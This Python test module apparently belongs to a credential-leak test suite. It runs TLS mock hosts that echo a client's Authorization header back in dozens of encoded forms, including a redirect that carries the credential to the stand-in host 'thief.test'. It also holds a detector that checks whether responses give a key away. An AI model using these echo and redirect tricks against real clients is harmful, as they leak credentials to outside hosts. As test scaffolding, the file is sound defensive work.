"""Hosts behind TLS that record what they are asked, and say it back in every form."""
import sys; sys.path.insert(0, sys.path[0] + "/egress")
import base64, gzip, html, json, os, re, ssl, subprocess, time, zlib
from dataclasses import dataclass
from urllib.parse import parse_qs, quote, unquote, urlsplit
import canary


@dataclass
class Request:
    method: str
    path: str
    host: str
    headers: str  # all of them
    body: bytes


def lower_escapes(text):
    return re.sub("%..", lambda m: m[0].lower(), text)


# What a host makes of the header that it was sent: (headers, body).
FORMS = {
    "plain": lambda s: ([], s),
    "base64": lambda s: ([], base64.b64encode(s)),
    "base64 behind one byte": lambda s: ([], base64.b64encode(b"x" + s)),
    "base64 behind two bytes": lambda s: ([], base64.urlsafe_b64encode(b"xx" + s)),
    "base64 in lines": lambda s: ([], base64.encodebytes(b"x" * 40 + s)),
    "base64 in lines of MIME": lambda s: ([], base64.encodebytes(b"x" * 37 + s).replace(b"\n", b"\r\n")),
    "base64 in lines, as JSON": lambda s: ([], json.dumps(base64.encodebytes(b"x" * 38 + s).decode()).encode()),
    "hexadecimal": lambda s: ([], s.hex().encode()),
    "hexadecimal in capitals": lambda s: ([], s.hex().upper().encode()),
    "percent-encoded": lambda s: ([], quote(s, safe="").encode()),
    "percent-encoded in lower case": lambda s: ([], lower_escapes(quote(s, safe="")).encode()),
    "percent-encoded in full": lambda s: ([], b"".join(b"%%%02X" % c for c in s)),
    "percent-encoded by Python": lambda s: ([], quote(s).encode()),
    "percent-encoded by JavaScript": lambda s: ([], quote(s, safe="!'()*").encode()),
    "as HTML by mustache": lambda s: ([], html.escape(s.decode()).replace("&#x27;", "&#39;").replace("/", "&#x2F;").replace("=", "&#x3D;").encode()),
    "as a text of C": lambda s: ([], s.replace(b"'", b"\\x27").replace(b"&", b"\\x26")),
    "as JSON": lambda s: ([], json.dumps(s.decode()).replace("&", "\\u0026").replace("'", "\\u0027").replace("+", "\\u002B").encode()),
    "as HTML": lambda s: ([], html.escape(s.decode()).encode()),
    "gzip": lambda s: ([("Content-Encoding", "gzip")], gzip.compress(s)),
    "gzip by its other name": lambda s: ([("Content-Encoding", "X-GZIP")], gzip.compress(s)),
    "gzip behind identity": lambda s: ([("Content-Encoding", "identity"), ("Content-Encoding", "gzip")], gzip.compress(s)),
    "gzip in a list": lambda s: ([("content-encoding", "identity, gzip")], gzip.compress(s)),
    "deflate": lambda s: ([("Content-Encoding", "deflate")], zlib.compress(s)),
    "a header": lambda s: ([("X-Echo", s.decode())], b""),
    "a header in base64": lambda s: ([("X-Echo", base64.b64encode(s).decode())], b""),
    "the name of a header": lambda s: ([(s.decode().split()[-1], "x")], b""),
    "a cookie": lambda s: ([("Set-Cookie", "session=" + quote(s, safe=""))], b""),
    "a challenge": lambda s: ([("WWW-Authenticate", f'Bearer realm="{s.decode()}"')], b""),
    "a type": lambda s: ([("Content-Type", "text/" + quote(s, safe=""))], b""),
}


class Handler(canary._Handler):
    """Says the header Authorization back as the query wants, redirects, streams, and speaks for git."""

    def handle_one(self):
        body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
        self.server.heard.requests.append(Request(self.command, self.path, self.headers.get("Host"), str(self.headers), body))
        said, at = (self.headers.get("Authorization") or "").encode(), urlsplit(self.path)
        how = parse_qs(at.query).get("how", ["nothing"])[0]
        if ".git/" in at.path:
            return self.git(at, body, said)
        special = getattr(self, "say_" + how.replace(" ", "_"), None)
        if special:
            return special(said)
        headers, text = FORMS.get(how, lambda _: ([], b"ok"))(said)
        self.say(200, headers, text)

    do_GET = do_POST = do_HEAD = do_PUT = do_DELETE = do_TRACE = do_PATCH = handle_one

    def say(self, status, headers, text):
        self.send_response(status)
        for name, value in headers:
            self.send_header(name, value)
        self.send_header("Content-Length", str(len(text)))
        self.end_headers()
        self.wfile.write(text)

    def raw(self, text):
        self.wfile.write(text)
        self.close_connection = True

    def say_chunk_by_chunk(self, said):
        self.wfile.write(b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n")
        for c in said:
            self.wfile.write(b"1\r\n%c\r\n" % c)
            self.wfile.flush()
            time.sleep(0.002)  # so that each goes by itself
        self.wfile.write(b"0\r\n\r\n")

    def say_compressed_on_the_way(self, said):
        text = gzip.compress(said)
        self.raw(b"HTTP/1.1 200 OK\r\nTransfer-Encoding: gzip, chunked\r\n\r\n%x\r\n%s\r\n0\r\n\r\n" % (len(text), text))

    def say_in_a_trailer(self, said):
        self.raw(b"HTTP/1.1 200 OK\r\nTrailer: X-Echo\r\nTransfer-Encoding: chunked\r\n\r\n2\r\nok\r\n0\r\nX-Echo: " + said + b"\r\n\r\n")

    def say_in_the_reason(self, said):
        self.raw(b"HTTP/1.1 418 " + said + b"\r\nContent-Length: 0\r\n\r\n")

    def say_in_a_hint(self, said):
        self.raw(b"HTTP/1.1 103 Early Hints\r\nLink: </" + said + b">\r\n\r\nHTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok")

    def say_another_protocol(self, said):
        self.raw(b"HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: x\r\n\r\n" + said)

    def say_what_is_no_answer(self, said):
        self.raw(said + b"\r\n\r\n")

    def say_if_it_may_be_compressed(self, said):
        zipped = "gzip" in (self.headers.get("Accept-Encoding") or "")
        self.say(200, [("Content-Encoding", "gzip")] if zipped else [], gzip.compress(said) if zipped else said)

    def say_a_range(self, said):
        part = re.fullmatch(r"bytes=(\d+)-(\d+)", self.headers.get("Range") or "")
        self.say(206 if part else 200, [], said[int(part[1]):int(part[2]) + 1] if part else said)

    def say_elsewhere(self, said):
        self.say(302, [("Location", "https://thief.test/caught?was=" + quote(said, safe=""))], b"")

    def say_elsewhere_without_it(self, said):
        self.say(302, [("Location", "https://thief.test/caught")], b"")

    def say_for_long(self, said):
        self.wfile.write(b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n")
        self.connection.settimeout(5)
        end = time.monotonic() + 90
        while time.monotonic() < end:
            self.wfile.write(b"5\r\ntick\n\r\n")
            self.wfile.flush()
            time.sleep(0.1)
        self.wfile.write(b"0\r\n\r\n")

    def git(self, at, body, said):
        """Answers by git's own server, or says the credential back."""
        if self.server.hosts.echoes:
            return self.say(403, [("X-Echo", said.decode())], b"no: " + said + b" " + base64.b64decode(said.split()[-1] if said else b""))
        if not said:
            return self.say(401, [("WWW-Authenticate", "Basic realm=x")], b"")
        env = {"PATH": os.environ["PATH"], "GIT_PROJECT_ROOT": self.server.hosts.repositories, "GIT_HTTP_EXPORT_ALL": "1", "REMOTE_USER": "me", "REQUEST_METHOD": self.command,
               "PATH_INFO": at.path, "QUERY_STRING": at.query, "CONTENT_TYPE": self.headers.get("Content-Type") or "", "CONTENT_LENGTH": str(len(body)),
               "HTTP_CONTENT_ENCODING": self.headers.get("Content-Encoding") or "", "GIT_PROTOCOL": self.headers.get("Git-Protocol") or "",
               "GIT_CONFIG_COUNT": "1", "GIT_CONFIG_KEY_0": "safe.directory", "GIT_CONFIG_VALUE_0": "*"}
        out = subprocess.run(["git", "http-backend"], input=body, env=env, capture_output=True).stdout
        head, _, text = out.partition(b"\r\n\r\n")
        headers = [line.decode().split(": ", 1) for line in head.split(b"\r\n")]
        status = [int(value.split()[0]) for name, value in headers if name == "Status"] or [200]
        self.say(status[0], [h for h in headers if h[0] != "Status"], text)


class _Server:
    """What a handler needs of a server."""

    def __init__(self, heard, hosts):
        self.heard, self.hosts = heard, hosts


class Hosts(canary.Canary):
    """A canary whose ports 443 and 8080 speak HTTP over TLS."""

    def __init__(self, addresses, names, folder):
        self.certificate, self.repositories, self.echoes = folder + "/cert.pem", folder, False
        subprocess.run(["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "2", "-subj", "/CN=hosts", "-keyout", folder + "/key.pem", "-out", self.certificate,
                        "-addext", "subjectAltName=" + ",".join("DNS:" + n for n in names)], check=True, capture_output=True)
        self.tls = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        self.tls.load_cert_chain(self.certificate, folder + "/key.pem")
        super().__init__(addresses, names)

    def _serve(self, conn, heard):
        if heard.port not in (443, 8080):
            return super()._serve(conn, heard)
        try:
            conn.settimeout(20)
            conn = self.tls.wrap_socket(conn, server_side=True)
            Handler(conn, conn.getpeername(), _Server(heard, self))
        except (OSError, ValueError):
            pass  # the other end broke off
        finally:
            conn.close()
            with self.changed:
                self.open -= 1
                self.changed.notify_all()


def forms(key):
    """Returns the texts that give a key away."""
    out = {key, key.hex().encode(), key.hex().upper().encode(), quote(key, safe="").encode(), html.escape(key.decode()).encode(), json.dumps(key.decode())[1:-1].encode(),
           key.replace(b"&", b"\\u0026")}
    for shift in range(3):
        text = base64.b64encode(b"\0" * shift + key)
        inner = text[(shift * 8 + 5) // 6:(shift + len(key)) * 8 // 6]
        out |= {inner, inner.translate(bytes.maketrans(b"+/", b"-_"))}
    return out


def gives_away(text, key):
    """Reports whether a text has a key, in any form in which a program could read it."""
    texts = [text, unchunked(text)]
    for one in list(texts):
        for start in (m.start() for m in re.finditer(rb"\x1f\x8b\x08|\x78\x9c", one)):
            try:
                texts.append(zlib.decompressobj(47).decompress(one[start:]))
            except zlib.error:
                pass
    wanted = {form.lower() for form in forms(key)}
    for one in texts:
        unescaped = re.sub(rb"\\(?:u00|x)([0-9a-fA-F]{2})", lambda m: bytes([int(m[1], 16)]), one).replace(b"\\n", b"").replace(b"\\/", b"/")
        for reading in (one, unquote(one.decode("latin1")).encode("latin1", "replace"), html.unescape(one.decode("latin1")).encode("latin1", "replace"), unescaped, re.sub(rb"\s", b"", unescaped)):
            if any(form in reading.lower() for form in wanted):
                return True
    return False


def unchunked(text):
    """Returns the body of an answer without the marks of its chunks."""
    head, _, body = text.partition(b"\r\n\r\n")
    if b"chunked" not in head.lower():
        return body
    out = b""
    while (m := re.match(rb"([0-9a-fA-F]+)\r\n", body)) and int(m[1], 16):
        out, body = out + body[m.end():m.end() + int(m[1], 16)], body[m.end() + int(m[1], 16) + 2:]
    return out
